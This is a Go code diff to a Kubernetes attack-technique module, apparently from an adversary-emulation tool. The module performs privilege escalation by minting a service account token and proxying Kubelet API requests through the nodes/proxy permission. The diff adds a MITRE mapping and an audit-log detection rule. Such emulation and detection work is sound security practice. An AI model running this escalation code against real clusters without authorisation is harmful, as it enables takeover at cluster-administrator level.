@@ -28,11 +28,18 @@ func init() {
 	const code = "`"
 
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
-		ID:                 "k8s.privilege-escalation.nodes-proxy",
-		FriendlyName:       "Privilege escalation through node/proxy permissions",
-		Platform:           stratus.Kubernetes,
-		IsIdempotent:       true,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.PrivilegeEscalation},
+		ID:                    "k8s.privilege-escalation.nodes-proxy",
+		FriendlyName:          "Privilege escalation through node/proxy permissions",
+		Platform:              stratus.Kubernetes,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.PrivilegeEscalation},
+		MitreAttackTechniques: []string{"T1609"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"verb": {"get", "create"}, "objectRef.resource": {"nodes"}, "objectRef.subresource": {"proxy"}},
+			},
+			FalsePositives: []string{"Monitoring agents scraping kubelet metrics"},
+		},
 		Description: `
 Uses the node proxy API to proxy a Kubelet request through a worker node. This is a vector of privilege escalation, allowing
 any principal with the ` + code + `nodes/proxy` + code + ` permission to escalate their privilege to cluster administrator,
@@ -90,11 +97,11 @@ Additionally, looking at the Kubelet API path that was proxied can help identify
 See [kubeletctl](https://github.com/cyberark/kubeletctl/blob/master/pkg/api/constants.go) for an unofficial list of Kubelet API endpoints.
 `,
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
+		DetonateWithContext:        detonate,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	k8s := providers.K8s()
 	client := k8s.GetClient()
 	serviceAccountName := params["service_account_name"]
@@ -102,20 +109,20 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 
 	// Step 1: Get a service account token for our service account, which has "nodes/proxy" permissions
 	log.Println("Retrieving service account token for service account " + serviceAccountName)
-	authenticationToken, err := getServiceAccountToken(serviceAccountName, serviceAccountNamespace, client)
+	authenticationToken, err := getServiceAccountToken(ctx, serviceAccountName, serviceAccountNamespace, client)
 	if err != nil {
 		return err
 	}
 
 	// Step 2: Choose a node to proxy from
-	node, err := getRandomNodeName(client)
+	node, err := getRandomNodeName(ctx, client)
 	if err != nil {
 		return err
 	}
 
 	// Step 3: Proxy the request to the Kubelet through this node
 	log.Println("Using worker node '" + node + "' to proxy to the Kubelet API")
-	_, err = proxyKubeletRequest(k8s, "/runningpods/", authenticationToken, node, client)
+	_, err = proxyKubeletRequest(ctx, k8s, "/runningpods/", authenticationToken, node, client)
 	if err != nil {
 		return err
 	}
@@ -125,10 +132,10 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 }
 
 // Generates a service account token for a specific service account
-func getServiceAccountToken(serviceAccount string, namespace string, client *kubernetes.Clientset) (string, error) {
+func getServiceAccountToken(ctx context.Context, serviceAccount string, namespace string, client kubernetes.Interface) (string, error) {
 	tokenRequest := &authenticationv1.TokenRequest{}
 	options := metav1.CreateOptions{}
-	result, err := client.CoreV1().ServiceAccounts(namespace).CreateToken(context.Background(), serviceAccount, tokenRequest, options)
+	result, err := client.CoreV1().ServiceAccounts(namespace).CreateToken(ctx, serviceAccount, tokenRequest, options)
 	if err != nil {
 		return "", errors.New("unable to retrieve service account token for " + serviceAccount + ": " + err.Error())
 	}
@@ -137,8 +144,8 @@ func getServiceAccountToken(serviceAccount string, namespace string, client *kub
 }
 
 // Returns the name of a worker node, no matter which one
-func getRandomNodeName(client *kubernetes.Clientset) (string, error) {
-	result, err := client.CoreV1().Nodes().List(context.Background(), metav1.ListOptions{})
+func getRandomNodeName(ctx context.Context, client kubernetes.Interface) (string, error) {
+	result, err := client.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
 	if err != nil {
 		return "", errors.New("unable to list worker nodes: " + err.Error())
 	}
@@ -147,7 +154,7 @@ func getRandomNodeName(client *kubernetes.Clientset) (string, error) {
 
 // Uses the nodes proxy API to proxy a request through a node to hit the Kubelet
 // see https://kubernetes.io/docs/reference/generated/kubernetes-api/v1.22/#-strong-proxy-operations-node-v1-core-strong-
-func proxyKubeletRequest(k8s *providers.K8sProvider, kubeletApiPath string, token string, node string, client *kubernetes.Clientset) (string, error) {
+func proxyKubeletRequest(ctx context.Context, k8s *providers.K8sProvider, kubeletApiPath string, token string, node string, client kubernetes.Interface) (string, error) {
 	// Note: We have to use a raw HTTP request because it's not straightforward to create a new K8s API client from
 	// a static bearer token
 	httpClient := &http.Client{
@@ -157,7 +164,7 @@ func proxyKubeletRequest(k8s *providers.K8sProvider, kubeletApiPath string, toke
 	}
 	apiServerUrl := fmt.Sprintf("%s/%s", k8s.RestConfig.Host, k8s.RestConfig.APIPath)
 	endpointUrl := fmt.Sprintf("%sapi/v1/nodes/%s/proxy%s", apiServerUrl, node, kubeletApiPath)
-	req, _ := http.NewRequest("GET", endpointUrl, nil)
+	req, _ := http.NewRequestWithContext(ctx, "GET", endpointUrl, nil)
 	req.Header.Set("Authorization", "Bearer "+token)
 	req.Header.Set("User-Agent", useragent.GetStratusUserAgentForUUID(k8s.UniqueCorrelationId))
 